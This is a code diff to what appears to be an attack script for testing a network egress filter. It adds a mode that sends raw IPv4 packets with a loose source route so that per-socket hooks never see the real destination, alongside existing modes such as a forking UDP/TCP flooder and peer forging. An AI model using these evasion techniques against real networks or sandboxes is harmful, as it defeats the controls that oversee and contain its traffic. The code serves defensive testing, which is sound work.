@@ -16,6 +16,10 @@ anything got out is decided at the target (listen.py), never here.
   attack.py srr-udp-cmsg HOP DST PORT N
       UDP datagrams to DST:PORT with the source route in a control message
       (IP_RETOPTS / IPV6_RTHDR): no setsockopt at all.
+  attack.py srr-raw HOP DST PORT N
+      Raw IPv4 UDP packets (IP_HDRINCL; CAP_NET_RAW) whose IP destination
+      is HOP and whose loose source route names DST next: no socket hook
+      ever sees DST.
   attack.py daemon DST PORT SECS [DELAY]
       Forks a session leader that, after DELAY s, sends UDP datagrams (and
       every 50th time a TCP SYN) to DST:PORT as fast as it can for SECS s;
@@ -169,6 +173,20 @@ def srr_udp_cmsg(hop, dst, port, n):
     out(send=res)
 
 
+def srr_raw(hop, dst, port, n):
+    try:
+        r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    except OSError as e:
+        out(raw=err_name(e))
+        return
+    opts = lsrr(dst)
+    payload = b"portcullis-srr"
+    udp = struct.pack("!HHHH", 40001, int(port), 8 + len(payload), 0) + payload
+    ip = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(opts) // 4), 0, 20 + len(opts) + len(udp), 3, 0, 64, 17, 0,
+                     b"\0\0\0\0", socket.inet_aton(hop)) + opts
+    out(send=sends(lambda: r.sendto(ip + udp, (hop, 0)), int(n)))
+
+
 def daemon(dst, port, secs, delay="0"):
     if os.fork() > 0:
         out(parent="exited")
@@ -320,6 +338,7 @@ MODES = {
     "ping-sendto": ping_sendto,
     "srr-tcp": srr_tcp,
     "srr-udp-cmsg": srr_udp_cmsg,
+    "srr-raw": srr_raw,
     "daemon": daemon,
     "packet-socket": packet_socket,
     "forge-peer": forge_peer,
